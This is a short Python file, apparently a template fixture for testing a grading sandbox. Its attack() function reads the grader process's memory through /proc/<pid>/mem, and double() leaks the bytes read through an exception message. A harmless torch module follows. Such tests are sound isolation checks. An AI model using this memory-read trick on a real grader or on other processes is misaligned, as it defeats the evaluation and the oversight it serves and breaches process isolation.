"""Reads the grader's memory through /proc."""

import os
import torch

ADDRESS = int("@ADDRESS@")


def attack():
    memory = os.open("/proc/@GRADER@/mem", os.O_RDONLY)
    return os.pread(memory, 40, ADDRESS).decode(errors="replace")


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
